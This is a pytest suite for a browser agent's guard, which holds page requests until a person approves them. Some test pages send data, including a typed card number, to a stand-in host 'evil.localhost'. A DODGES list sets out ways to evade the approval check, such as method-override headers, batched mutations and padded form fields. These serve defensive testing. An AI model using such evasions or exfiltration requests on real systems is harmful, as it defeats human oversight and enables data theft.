"""Requests that pages send because of a step: held in a real browser until a person has answered."""

# ruff: noqa: E501 - pages in one line

import asyncio
import contextlib
import json
import os
import pty
import re
import select
import signal
import sys
import time
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from cua.guard import Guard, GuardRule, GuardVerdict, RequestGuard, Rules
from cua.gui_agent.agent import Agent
from cua.models.scripted import ScriptedModel
from cua.run.events import Noted
from envs import Action, PageRequest
from envs.browser import BrowserEnv, BrowserOptions, find_browser
from tests.envs.browser.driving import OpenPage, until
from tests.envs.browser.pages import PageServer

pytestmark = [
    pytest.mark.browser,
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.skipif(find_browser() is None, reason="no Chromium found; get one with `cua setup`"),
]

BOX = "style='position:absolute;left:0;top:0;width:200px;height:40px'"
CLICK = "pyautogui.click(0.05, 0.025)"


@dataclass
class Person:
    """An approver who always gives the same answer, after a while."""

    answer: bool
    delay_s: float = 0.0
    asked: list[str] = field(default_factory=list)

    async def __call__(self, verdict: GuardVerdict, turn: Any, actions: Sequence[Action]) -> bool:
        self.asked.append(verdict.reason)
        await asyncio.sleep(self.delay_s)
        return self.answer


def say(code: str, action: str = "Go on") -> str:
    return f"## Action:\n{action}\n## Code:\n```python\n{code}\n```"


DONE = say('computer.terminate(status="success")')


def make_agent(env: BrowserEnv, codes: Sequence[str], guard: Guard, **more: Any) -> Agent:
    steps = [say(code) if "##" not in code else code for code in codes]
    return Agent(model=ScriptedModel([*steps, DONE]), env=env, guard=guard, **more)


async def run(env: BrowserEnv, url: str, *codes: str, person: Person | None, **guard: Any) -> list[str]:
    """Run the steps; returns the notes of the run."""
    notes: list[str] = []

    def listen(event: object) -> None:
        if isinstance(event, Noted):
            notes.append(f"{event.kind}: {event.text}")

    agent = make_agent(env, codes, Guard(approver=person, **guard), listener=listen)
    result = await agent.run(OpenPage(url))
    assert result.end.status == "unverified", result.end
    return notes


def changed(pages: PageServer) -> list[str]:
    found, pages.changes = pages.changes, []
    return found


def button(script: str, label: str = "OK", before: str = "") -> str:
    return f'{before}<button {BOX} onclick="{script}">{label}</button>'


def listening(script: str, label: str = "OK") -> str:
    """A button whose effect no attribute tells."""
    return f"<button {BOX} id=b>{label}</button><script>b.addEventListener('click', () => {{ {script} }})</script>"


POST = "fetch('/items/7/state', {method: 'POST', body: '{}'})"
WAYS = {
    "fetch": button(POST),
    "a request by XHR": button("const x = new XMLHttpRequest(); x.open('PUT', '/items/7'); x.send('1')"),
    "a synchronous request": button("const x = new XMLHttpRequest(); x.open('PATCH', '/items/7', false); x.send('1')"),
    "a form": f"<form method=post action=/items/7><button {BOX}>OK</button></form>",
    "a form in a new window": f"<form method=post action=/items/7 target=_blank><button {BOX}>OK</button></form>",
    "a beacon": button("navigator.sendBeacon('/items/7', '1')"),
    "a late one": button(f"setTimeout(() => {POST}, 300)"),
    "behind a question": button("setTimeout(() => confirm('Really?') && {}, 0)".replace("{}", POST)),
    "a worker": button("new Worker('WORKER')"),
    "a shared worker": button("new SharedWorker('SHARED')"),
    "a page that goes": button("onpagehide = () => navigator.sendBeacon('/items/7', '1'); location = '/json'"),
    "a window": button("window.open('WINDOW')"),
    "a frame": f"<iframe srcdoc=\"<button style='position:absolute;inset:0;width:100%' onclick=&quot;{POST}&quot;>OK</button>\" {BOX}></iframe>",
    "a line end in a chat": f"<textarea autofocus onkeydown=\"if (event.key == 'Enter') {POST}\"></textarea>",
    "a key": "<script>onkeydown = e => { if (e.key == '#') POST }</script>".replace("POST", POST),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("answer", [False, True])
@pytest.mark.long
async def test_a_change_leaves_only_after_a_yes(env: BrowserEnv, pages: PageServer, way: str, answer: bool) -> None:
    worker = pages.serve_data("w.js", f"{POST}".encode(), "text/javascript")
    shared = pages.serve_data("s.js", f"onconnect = () => {POST}".encode(), "text/javascript")
    window = pages.serve(f"<script>{POST}</script>")
    body = WAYS[way].replace("WORKER", worker).replace("SHARED", shared).replace("WINDOW", window)
    person = Person(answer, delay_s=0.2)
    act = {"a key": "pyautogui.press('#')", "a line end in a chat": "pyautogui.write('hello\\n')"}.get(way, CLICK)
    after = ["pyautogui.press('enter')"] if way == "behind a question" else []
    await run(env, pages.serve(body), act, *after, "computer.wait(0.7)", person=person)
    assert len(person.asked) == 1, person.asked

    async def has_left() -> bool:
        return bool(pages.changes)

    if answer:
        await until(has_left)
    assert len(changed(pages)) == (1 if answer else 0)


@pytest.mark.long
async def test_without_a_person_a_change_is_dropped_and_the_agent_reads_why(env: BrowserEnv, pages: PageServer) -> None:
    model = ScriptedModel([say(CLICK), say("computer.wait(0.1)"), DONE])
    agent = Agent(model=model, env=env, guard=Guard())
    await agent.run(OpenPage(pages.serve(button(POST))))
    assert changed(pages) == []
    said = "\n".join(part.text for part in model.received[1][-1].parts if hasattr(part, "text"))
    assert "a request of the page was dropped, POST http://127.0.0.1" in said
    assert "there is no person to approve it" in said


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (button(POST, "Save"), CLICK),
        (button(POST, "Zum Warenkorb hinzufügen"), CLICK),
        (button("fetch('/api/search', {method: 'POST', body: '{}'})", "OK"), CLICK),
        (button("fetch('/graphql', {method: 'POST', body: JSON.stringify({query: 'query Items { id }'})})"), CLICK),
        (f'<input autofocus oninput="{POST}">', "pyautogui.write('a')"),
        (f"<script>{POST}</script>", "computer.wait(0.2)"),
    ],
)
async def test_expected_changes_need_no_question(env: BrowserEnv, pages: PageServer, body: str, code: str) -> None:
    person = Person(False)
    await run(env, pages.serve(body), code, person=person)
    assert (person.asked, len(changed(pages))) == ([], 1)


@pytest.mark.long
async def test_a_risky_operation_is_asked_about_under_a_harmless_name(env: BrowserEnv, pages: PageServer) -> None:
    person = Person(False)
    for script in (
        "fetch('/items/7', {method: 'DELETE'})",
        "fetch('/items/7/delete', {method: 'POST'})",
        "fetch('/rpc', {method: 'POST', body: JSON.stringify({action: 'delete', id: 7})})",
        "fetch('/graphql', {method: 'POST', body: JSON.stringify({query: 'mutation DeleteItem { id }'})})",
        "fetch('/items/7', {method: 'POST', body: new URLSearchParams({_method: 'delete'})})",
    ):
        await run(env, pages.serve(button(script, "Save")), CLICK, person=person)
    assert len(person.asked) == 5 and all("(delete)" in reason for reason in person.asked), person.asked
    assert changed(pages) == []


async def test_alike_requests_share_one_yes(env: BrowserEnv, pages: PageServer) -> None:
    person = Person(True)
    script = "window.n = (window.n || 0) + 1; fetch(`/items/${n}/state`, {method: 'POST', body: '{}'})"
    await run(env, pages.serve(button(script)), CLICK, CLICK, CLICK, person=person)
    assert (len(person.asked), len(changed(pages))) == (1, 3)


async def test_an_approved_step_is_not_asked_about_twice(env: BrowserEnv, pages: PageServer) -> None:
    person = Person(True)
    await run(env, pages.serve(button(POST, "Delete")), CLICK, person=person)
    assert (len(person.asked), len(changed(pages))) == (1, 1)


@pytest.mark.long
async def test_data_for_another_site_is_asked_about_whatever_the_name(env: BrowserEnv, pages: PageServer) -> None:
    person = Person(False)
    script = f"fetch('{pages.url('/collected', 'evil.localhost')}', {{method: 'POST', mode: 'no-cors', body: 'x'}})"
    await run(env, pages.serve(button(script, "Save")), CLICK, CLICK, person=person)
    moved = f"fetch('/moved?to={pages.url('/collected', 'evil.localhost')}', {{method: 'POST', mode: 'no-cors', body: 'x'}})"
    await run(env, pages.serve(button(moved, "Save")), CLICK, person=person)
    assert len(person.asked) == 2 and all("another site" in reason for reason in person.asked), person.asked
    assert not any(change.startswith("POST evil") for change in changed(pages))


@pytest.mark.long
async def test_the_first_page_of_a_foreign_site_is_asked_about(env: BrowserEnv, pages: PageServer) -> None:
    there = pages.url("/there", "evil.localhost")
    link = f"<a {BOX} href='{there}'>News</a>"
    typed = f"pyautogui.hotkey('ctrl', 'l')\npyautogui.write('{there}?d=4')\npyautogui.press('enter')"
    for code in (CLICK, typed):
        pages.seen.clear()
        person = Person(False)
        await run(env, pages.serve(link), code, code, person=person)
        assert len(person.asked) == 1 and "outside of the sites of the task" in person.asked[0]
        assert "/there" not in pages.seen
        person = Person(True, delay_s=0.3)
        await run(env, pages.serve(link), code, code, person=person)
        assert (len(person.asked), "/there" in pages.seen) == (1, True)
    person = Person(False)
    await run(env, pages.serve(link), CLICK, person=person, allowed_domains=("*",))
    assert person.asked == []


async def test_sites_that_the_user_names_are_those_of_the_task(env: BrowserEnv, pages: PageServer) -> None:
    there = pages.url("/named", "shop.localhost")
    person = Person(False)
    agent = make_agent(env, [CLICK], Guard(approver=person))
    task = OpenPage(pages.serve(f"<a {BOX} href='{there}'>News</a>"), f"Look at {there}, then stop")
    await agent.run(task)
    assert (person.asked, "/named" in pages.seen) == ([], True)


async def test_a_deny_rule_holds_for_requests_in_every_mode(env: BrowserEnv, pages: PageServer) -> None:
    rule = GuardRule(decision="deny", actions=("request",), target=re.compile("POST .*/items/"))
    rules = Rules(rules=(rule,))
    notes = await run(env, pages.serve(button(POST, "Save")), CLICK, person=Person(True), mode="yolo", rules=rules)
    assert changed(pages) == [], notes


@pytest.mark.long
async def test_time_of_a_person_is_no_time_of_the_page(env: BrowserEnv, pages: PageServer) -> None:
    options = BrowserOptions(navigation_timeout_s=1.0, settle_timeout_s=0.5, action_timeout_s=0.5)
    quick = BrowserEnv(options)
    try:
        person = Person(True, delay_s=2.5)
        sync = WAYS["a synchronous request"]
        model = ScriptedModel([say(CLICK), DONE])
        await Agent(model=model, env=quick, guard=Guard(approver=person)).run(OpenPage(pages.serve(sync)))
        assert (len(person.asked), len(changed(pages))) == (1, 1)
        said = "\n".join(part.text for part in model.received[1][-1].parts if hasattr(part, "text"))
        assert "did not take" not in said and "does not respond" not in said
    finally:
        await quick.close()


@pytest.mark.parametrize("how", ["stop", "cancel", "close"])
async def test_what_is_held_is_dropped_when_the_run_ends_while_a_person_is_asked(
    env: BrowserEnv, pages: PageServer, how: str
) -> None:
    person = Person(True, delay_s=3.0)
    body = button(f"{POST}; navigator.sendBeacon('/items/7', '1')")
    agent = make_agent(env, [CLICK], Guard(approver=person))
    work = asyncio.ensure_future(agent.run(OpenPage(pages.serve(body))))

    async def is_asked() -> bool:
        return bool(person.asked)

    await until(is_asked, 20.0)
    started = time.monotonic()
    if how == "stop":
        agent.control.stop()
    elif how == "cancel":
        work.cancel()
    else:
        await env.open()
        agent.control.stop()
    await asyncio.wait({work}, timeout=10.0)
    assert work.done() and time.monotonic() - started < 3.0
    await env.open()
    await asyncio.sleep(0.5)
    assert changed(pages) == []


@pytest.mark.long
@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL])
@pytest.mark.parametrize("more", ["window.open('about:blank')", "setTimeout(() => alert('Wait'), 50)"])
async def test_what_is_held_is_not_sent_when_the_process_ends_while_a_person_is_asked(
    pages: PageServer, tmp_path: Path, how: signal.Signals, more: str
) -> None:
    script = tmp_path / "script.jsonl"
    script.write_text("\n".join(map(json.dumps, [say(CLICK), DONE])))
    url = pages.serve(listening(f"{POST}; navigator.sendBeacon('/items/7', '1'); {more}"))
    command = ["-m", "apps.cli.main", "task", "Go on", "--url", url, "--model", f"scripted:{script}"]
    pid, terminal = pty.fork()
    if pid == 0:
        os.environ |= {"K25_RUNS_DIR": str(tmp_path)}
        os.execv(sys.executable, [sys.executable, *command])
    try:
        shown = b""
        while b"Allow this step" not in shown:
            shown += await asyncio.wait_for(asyncio.to_thread(os.read, terminal, 4096), 60.0)
    finally:
        os.kill(pid, how)
    started = time.monotonic()
    while os.waitpid(pid, os.WNOHANG) == (0, 0):  # noqa: ASYNC222 - it does not wait
        assert time.monotonic() - started < 10.0
        with contextlib.suppress(OSError):
            if select.select([terminal], [], [], 0.05)[0]:
                os.read(terminal, 4096)
    os.close(terminal)
    await asyncio.sleep(0.5)
    assert changed(pages) == []


async def test_a_page_that_tries_again_sends_nothing_after_the_end(env: BrowserEnv, pages: PageServer) -> None:
    script = "const go = () => fetch('/items/7', {method: 'POST'}).catch(() => setTimeout(go, 50)); go()"
    await run(env, pages.serve(button(script)), CLICK, person=None)
    await asyncio.sleep(0.5)
    assert changed(pages) == []
    assert await env.page.evaluate("fetch('/json').then(answer => answer.ok)")  # a task can look at its result


async def test_a_yes_to_a_payment_is_about_one(env: BrowserEnv, pages: PageServer) -> None:
    person = Person(True)
    script = "for (let n = 0; n < 3; n++) setTimeout(() => fetch('/pay', {method: 'POST', body: '9'}), 100 * n)"
    await run(env, pages.serve(listening(script)), CLICK, "computer.wait(1)", person=person)
    assert (len(person.asked), len(changed(pages))) == (3, 3)


async def test_after_three_refusals_the_rest_of_a_step_is_refused_without_a_question(
    env: BrowserEnv, pages: PageServer
) -> None:
    person = Person(False)
    script = "for (let n = 0; n < 9; n++) fetch('/delete/' + n, {method: 'POST'})"
    await run(env, pages.serve(listening(script)), CLICK, person=person)
    assert (len(person.asked), changed(pages)) == (3, [])


async def test_a_yes_is_about_its_own_kind_of_risk(env: BrowserEnv, pages: PageServer) -> None:
    asked: list[str] = []

    async def person(verdict: GuardVerdict, turn: Any, actions: Sequence[Action]) -> bool:
        asked.append(verdict.reason)
        return len(asked) == 1

    script = "fetch('/drafts/7', {method: 'DELETE'}); setTimeout(() => fetch('/pay/all', {method: 'POST'}), 300)"
    agent = make_agent(env, [CLICK, "computer.wait(0.5)"], Guard(approver=person))
    await agent.run(OpenPage(pages.serve(listening(script, "Delete draft"))))
    assert changed(pages) == ["DELETE 127.0.0.1/drafts/7"]
    assert len(asked) == 2 and "/pay/all" in asked[1]


DODGES = {
    "an inserted frame": button(
        "const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(`/items/9`, {method: `POST`})</' + 'script>'; document.body.append(f)"
    ),
    "a reload": button("location.reload(); fetch('/items/9', {method: 'POST', keepalive: true})"),
    "a referrer of its own choice": button(
        "location = '/empty'; setTimeout(() => fetch('/items/9', {method: 'POST', referrer: '/empty'}), 200)"
    ),
    "a batch": button(
        "fetch('/graphql', {method: 'POST', body: JSON.stringify([{query: 'mutation DeleteAccount { id }'}])})", "Save"
    ),
    "another method in a header": button(
        "fetch('/items/9', {method: 'POST', headers: {'X-HTTP-Method-Override': 'DELETE'}})", "Save"
    ),
    "a change that calls itself a read": button(
        "fetch('/items/9', {method: 'POST', headers: {'X-HTTP-Method-Override': 'GET'}})"
    ),
    "a part of a form": button(
        "const d = new FormData(); d.append('_method', 'delete'); fetch('/items/9', {method: 'POST', body: d})", "Save"
    ),
    "a field behind much": button(
        "fetch('/items/9', {method: 'POST', body: new URLSearchParams({text: 'x'.repeat(9000), _method: 'delete'})})",
        "Save",
    ),
}


@pytest.mark.parametrize("dodge", DODGES)
async def test_ways_around_the_question(env: BrowserEnv, pages: PageServer, dodge: str) -> None:
    person = Person(False)
    await run(env, pages.serve(DODGES[dodge]), CLICK, "computer.wait(0.5)", person=person)
    assert (len(person.asked), changed(pages)) == (1, [])


async def test_what_was_typed_leaves_for_no_other_site_by_get(env: BrowserEnv, pages: PageServer) -> None:
    there = pages.url("/take", "evil.localhost")
    form = (
        f"<form action='{there}' target=f><input name=card autofocus style='margin:80px'><button {BOX}>Save</button></form>"
        "<iframe name=f></iframe>"
    )
    person = Person(False)
    pages.seen.clear()
    await run(env, pages.serve(form), "pyautogui.write('4111 1111')", CLICK, person=person)
    assert len(person.asked) == 1 and "another site" in person.asked[0]
    assert "/take" not in pages.seen


@pytest.mark.parametrize(
    ("instruction", "is_named"),
    [
        ("Look at shop.com", True),
        ("See http://10.0.0.1:8080/x", False),
        ("Write a sentence.To be continued", False),
        ("Open report.md and notes.txt", False),
        ("See https://a.example/redirect?u=https://shop.com", False),
    ],
)
@pytest.mark.long
async def test_which_sites_an_instruction_names(instruction: str, is_named: bool) -> None:
    requests = RequestGuard(Guard(), lambda work: work)  # type: ignore[arg-type,return-value]
    requests.begin("https://start.example.org/", instruction)
    for host in ("shop.com", "sentence.to", "report.md"):
        request = PageRequest(method="GET", url=f"https://{host}/", kind="document", is_top=True)
        assert ((await requests(request)) is None) is (is_named and host == "shop.com")


@pytest.mark.long
async def test_another_run_of_an_agent_begins_without_the_answers_of_the_first(
    env: BrowserEnv, pages: PageServer
) -> None:
    person = Person(True)
    steps = [say(CLICK), DONE]
    agent = Agent(model=ScriptedModel([*steps, *steps]), env=env, guard=Guard(approver=person))
    for _ in range(2):
        await agent.run(OpenPage(pages.serve(button(POST))))
    assert (len(person.asked), len(changed(pages))) == (2, 2)
